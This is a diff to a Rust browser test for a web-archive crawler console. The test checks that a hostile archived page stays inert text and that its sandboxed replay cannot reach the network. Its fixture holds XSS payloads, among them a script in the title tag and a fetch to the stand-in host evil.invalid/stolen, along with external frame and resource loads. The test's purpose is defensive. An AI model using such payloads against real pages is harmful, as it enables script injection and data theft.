@@ -1,14 +1,12 @@
-//! An archived page that tries to run: its title stays text, its preview runs and loads nothing; and the console of a
-//! directory in which no crawl runs.
+//! An archived page that tries to leave: its title stays text, its replay reaches neither the console nor the network;
+//! and the console of a directory in which no crawl runs.
 
 use std::io::ErrorKind;
 use std::net::TcpListener;
-use std::time::Instant;
 
-use super::{Open, chromium, click};
-use crate::site::{Crawl, PATIENCE, RUSH};
+use super::{Open, chromium, click, replay};
+use crate::site::{Crawl, RUSH};
 use crate::warc::server::{Answer, serve};
-use serde_json::{Value, json};
 
 const EVIL: &str = "<!doctype html><title><script>document.body.dataset.ran = 1</script> &amp; a title</title>\
     <body><h1>Evil</h1><script>document.body.dataset.ran = 1; fetch('http://evil.invalid/stolen');\
@@ -18,16 +16,8 @@ const EVIL: &str = "<!doctype html><title><script>document.body.dataset.ran = 1<
     <iframe src='http://evil.invalid/frame'></iframe><link rel=stylesheet href='http://evil.invalid/s.css'>\
     <style>body { background: url(http://evil.invalid/b.png) }</style><a href='/other' autofocus>link</a>";
 
-/// The document of a frame, as it is after its scripts, if they ran.
-fn document(browser: &mut chromium::Browser, session: &str) -> Option<String> {
-    let root = browser.try_call("DOM.getDocument", &json!({ "depth": -1 }), session).ok()?;
-    let node = json!({ "nodeId": root["root"]["nodeId"] });
-    let html: Value = browser.try_call("DOM.getOuterHTML", &node, session).ok()?;
-    Some(html["outerHTML"].as_str()?.to_owned())
-}
-
 #[test]
-fn a_hostile_page_stays_text_and_its_preview_runs_nothing() {
+fn a_hostile_page_stays_text_and_its_replay_reaches_neither_the_console_nor_the_network() {
     let Some(mut browser) = chromium::start() else { return };
     // whoever is connected to hears of it
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
@@ -61,30 +51,24 @@ fn a_hostile_page_stays_text_and_its_preview_runs_nothing() {
     browser.until("document.querySelector('.versions button[aria-pressed=true]') && document.querySelector('iframe')");
     assert_eq!(browser.text("document.getElementById('explained').innerText"), evil);
     assert!(browser.text("document.querySelector('.verdict').innerText").to_lowercase().contains("fetched"));
-    assert_eq!(browser.value("document.querySelector('iframe').getAttribute('sandbox')"), "");
+    let sandbox = browser.text("document.querySelector('iframe').getAttribute('sandbox')");
+    assert!(!sandbox.contains("top-navigation") && !sandbox.contains("popups"), "{sandbox}");
 
-    // the frame has its own session once it is there
-    let start = Instant::now();
-    let html = loop {
-        assert!(start.elapsed() < PATIENCE, "no frame: {:?}", browser.messages);
-        browser.value("0");
-        let frames = browser.messages.frames.clone();
-        let found = frames.iter().find_map(|frame| document(&mut browser, frame)).filter(|html| html.contains("Evil"));
-        if let Some(html) = found {
-            break html;
-        }
-    };
-    assert!(html.contains("dataset.ran = 1") && !html.contains("data-ran"), "{html}");
+    // its scripts run, and where it sends itself is a page of the archive, too
+    replay::until(&mut browser, "location.pathname.endsWith('/http://evil.invalid/refresh')");
     for tab in ["requests", "seeds", "hosts", "tree", "explain"] {
         click(&mut browser, &format!("tab-{tab}"));
         browser.until(&format!("document.querySelector('#panel-{tab} :is(td, [role=treeitem], .verdict, .note)')"));
         let foreign =
-            "document.querySelectorAll('main script, main img, main [onerror], iframe:not([sandbox=\"\"])').length";
+            "document.querySelectorAll('main script, main img, main [onerror], iframe:not([sandbox])').length";
         assert_eq!(browser.value(foreign), 0, "{tab}");
     }
     assert!(browser.text("document.title").contains("crawler"));
-    browser.assert_quiet(&console.origin());
-    let blocked = browser.messages.frame_problems.iter().any(|problem| problem.contains("script"));
-    assert!(blocked, "nothing tried to run: {:?}", browser.messages.frame_problems);
-    assert_eq!(heard(), Err(ErrorKind::WouldBlock), "the preview has connected to where the page wants");
+    assert_eq!(browser.text("location.origin"), console.origin());
+    let replay = browser.text("new URL(document.querySelector('iframe').src).origin");
+    browser.assert_alone(&[&console.origin(), &replay]);
+    let stolen = format!("{replay}/");
+    let has_tried = |url: &str| url.starts_with(&stolen) && url.ends_with("/http://evil.invalid/stolen");
+    assert!(browser.messages.requests.iter().any(|(_, url)| has_tried(url)), "{:#?}", browser.messages.requests);
+    assert_eq!(heard(), Err(ErrorKind::WouldBlock), "the replay has connected to where the page wants");
 }
